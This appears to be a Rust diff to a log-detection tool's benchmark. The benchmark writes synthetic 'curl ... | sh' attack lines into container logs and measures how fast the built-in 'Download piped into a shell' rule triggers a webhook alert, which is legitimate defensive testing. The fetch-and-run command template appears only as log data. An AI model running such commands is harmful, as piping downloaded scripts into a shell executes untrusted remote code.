@@ -11,10 +11,10 @@ use std::time::{Duration, Instant};
 use anyhow::{Context, bail};
 use logward_e2e::{Proc, Server, collector_args};
 
-use crate::Opts;
 use crate::datagen::{Generator, docker_json_lines, write_docker_dir};
 use crate::procstat::usage;
 use crate::report::{Row, percentile};
+use crate::{Opts, hook};
 
 fn collector(server: &Server, docker_dir: &Path, state: &Path) -> anyhow::Result<Proc> {
     let args = collector_args(&server.grpc_url(), docker_dir, state, "bench");
@@ -63,13 +63,46 @@ fn load(
     })
 }
 
+/// The built-in rule the attack lines fire.
+const CURL_RULE: &str = "c5943daa-5453-4941-8c9f-8e1824a7510a";
+
+/// Server config: alerting with one webhook channel to `127.0.0.1:port`, notifying at once.
+fn alerting_config(port: u16) -> String {
+    format!(
+        r#"[alerting]
+tick = "1s"
+
+[[alerting.channels]]
+name = "bench"
+min_level = "high"
+[alerting.channels.flood]
+group_wait = "0s"
+group_interval = "1ms"
+realert = "0s"
+max_per_hour = 0
+[alerting.channels.webhook]
+url = "http://127.0.0.1:{port}/hook"
+"#
+    )
+}
+
 /// W5 and W6.
 pub fn run(opts: &Opts) -> anyhow::Result<Vec<Row>> {
     let tmp = tempfile::tempdir()?;
     let docker_dir = tmp.path().join("containers");
     // 50 containers with a little history: 48 stay idle, 0 and 1 carry the load, 49 is the probe.
     let data = write_docker_dir(&docker_dir, 50, 2_000, 5)?;
-    let server = Server::start(&tmp.path().join("data"), &[])?;
+    // Alerting on: one webhook channel to a receiver here that notifies at once. The
+    // built-in "Download piped into a shell" rule is single-event (empty group key) and
+    // the default group_by is ["rule"], so every detection of it falls into one alert and
+    // one group: realert 0s and the shortest group_interval let each detection notify.
+    let (hook_port, hooks) = hook::start()?;
+    let config = tmp.path().join("server.toml");
+    std::fs::write(&config, alerting_config(hook_port))?;
+    let server = Server::start(
+        &tmp.path().join("data"),
+        &["--config".to_owned(), config.display().to_string()],
+    )?;
     let mut coll = collector(&server, &docker_dir, &tmp.path().join("state"))?;
     server
         .wait_for_total("*", data.events, Duration::from_secs(120))
@@ -130,6 +163,43 @@ pub fn run(opts: &Opts) -> anyhow::Result<Vec<Row>> {
         latencies.push(t0.elapsed().as_secs_f64() * 1000.0);
         std::thread::sleep(Duration::from_millis(50));
     }
+
+    // Event → alert: an attack line the built-in pack detects, until the webhook arrives.
+    let attack = log_path(&docker_dir, 48);
+    let mut alert_ms = Vec::new();
+    for i in 0..opts.w5_samples {
+        let line = format!(
+            "+ curl -fsSL http://203.0.113.{}/stage{i}-{}.sh | sh",
+            i % 250 + 1,
+            std::process::id()
+        );
+        let mut buf = Vec::new();
+        docker_json_lines(&mut buf, &line, "stderr", "2024-05-01T11:00:00.000000000Z");
+        let seen = hooks.lock().map_or(0, |h| h.len());
+        let t0 = Instant::now();
+        std::fs::OpenOptions::new()
+            .append(true)
+            .open(&attack)?
+            .write_all(&buf)?;
+        let arrived = loop {
+            let hit = hooks.lock().ok().and_then(|h| {
+                h[seen.min(h.len())..]
+                    .iter()
+                    .find(|(at, body)| *at >= t0 && body.contains(CURL_RULE))
+                    .map(|(at, _)| *at)
+            });
+            if let Some(at) = hit {
+                break at;
+            }
+            if t0.elapsed() > Duration::from_secs(60) {
+                bail!("W5: no webhook for attack line {i} after 60 s");
+            }
+            std::thread::sleep(Duration::from_millis(2));
+        };
+        alert_ms.push(arrived.duration_since(t0).as_secs_f64() * 1000.0);
+        // A spread pause, so lines do not stay in phase with the alerter's tick.
+        std::thread::sleep(Duration::from_millis(50 + (i as u64 * 397) % 1000));
+    }
     stop.store(true, Ordering::Relaxed);
     let _ = loader.join();
     rows.push(Row::new(
@@ -149,6 +219,28 @@ pub fn run(opts: &Opts) -> anyhow::Result<Vec<Row>> {
             "ms",
         )
         .target("≤ 1000 ms"),
+    );
+    rows.push(
+        Row::new(
+            "W5",
+            format!(
+                "attack line written → webhook p50, {} lines/s load",
+                opts.w5_load_lps
+            ),
+            percentile(&alert_ms, 50.0),
+            "ms",
+        )
+        .note("built-in rule \"Download piped into a shell\"; webhook at once (group_wait 0s, realert 0s), alerter tick 1 s (default); lines at spread moments"),
+    );
+    rows.push(
+        Row::new(
+            "W5",
+            "attack line written → webhook p99",
+            percentile(&alert_ms, 99.0),
+            "ms",
+        )
+        .target("≤ 2000 ms")
+        .note(format!("{} samples", alert_ms.len())),
     );
 
     let stop = Arc::new(AtomicBool::new(false));
